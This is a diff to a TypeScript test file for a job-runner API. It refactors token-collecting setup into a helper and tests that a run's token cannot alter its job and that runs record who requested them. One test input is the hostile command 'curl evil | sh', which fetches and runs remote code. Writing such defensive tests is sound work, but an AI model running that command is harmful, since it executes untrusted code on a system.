@@ -42,20 +42,26 @@ it('a token for one job gives that job no secret and no git credential that it d
   expect(await as.jobs.update(job.id, { secrets: [variable('bank')] })).toMatchObject({ revision: 4 });
 });
 
-it('a run starts its job as it is, but for arguments and the concurrency policy', async () => {
-  const tokens: string[] = [];
-  await using p = await people({
+/** Whose runs get a token each, in the order of their starts, and hang. */
+const peopleWithRuns = async (): Promise<People & { runTokens: readonly string[] }> => {
+  const runTokens: string[] = [];
+  const p = await people({
     publicUrl: 'https://ops.example.com/api',
     script: ({ secrets }) => {
-      tokens.push(secrets.find(({ location }) => location === 'RUNYARD_TOKEN')?.value ?? '');
+      runTokens.push(secrets.find(({ location }) => location === 'RUNYARD_TOKEN')?.value ?? '');
       return hangs();
     },
   });
+  return Object.assign(p, { runTokens });
+};
+
+it('a run starts its job as it is, but for arguments and the concurrency policy', async () => {
+  await using p = await peopleWithRuns();
   const ann = await p.user('ann');
   const job = await (await ann.as()).jobs.create({ name: 'j', command: 'x' });
   await (await ann.as()).jobs.start(job.id);
   await p.t.events.waitFor('run.running');
-  const run = await p.bearer(tokens[0] ?? '');
+  const run = await p.bearer(p.runTokens[0] ?? '');
   for (const [field, given] of [
     ['command', { command: 'curl evil | sh' }],
     ['ref', { ref: 'evil' }],
@@ -67,14 +73,7 @@ it('a run starts its job as it is, but for arguments and the concurrency policy'
 });
 
 it('a run tells who asked for it, and by which token', async () => {
-  const tokens: string[] = [];
-  await using p = await people({
-    publicUrl: 'https://ops.example.com/api',
-    script: ({ secrets }) => {
-      tokens.push(secrets.find(({ location }) => location === 'RUNYARD_TOKEN')?.value ?? '');
-      return hangs();
-    },
-  });
+  await using p = await peopleWithRuns();
   const ann = await p.user('ann');
   const job = await (await ann.as()).jobs.create({ name: 'j', command: 'x' });
   const { token, view } = await p.all.tokens.mint({
@@ -86,7 +85,7 @@ it('a run tells who asked for it, and by which token', async () => {
   const first = await (await p.bearer(token))?.jobs.start(job.id);
   expect(first?.requestedBy).toBe(`${ann.id} token:${view.id}`);
   await p.t.events.waitFor('run.running');
-  const second = await (await p.bearer(tokens[0] ?? ''))?.jobs.start(job.id);
+  const second = await (await p.bearer(p.runTokens[0] ?? ''))?.jobs.start(job.id);
   expect(second?.requestedBy).toBe(`${ann.id} run:${first?.id}`);
   expect((await p.all.as({ kind: 'user', id: ann.id }).jobs.start(job.id)).requestedBy).toBe(ann.id);
 });
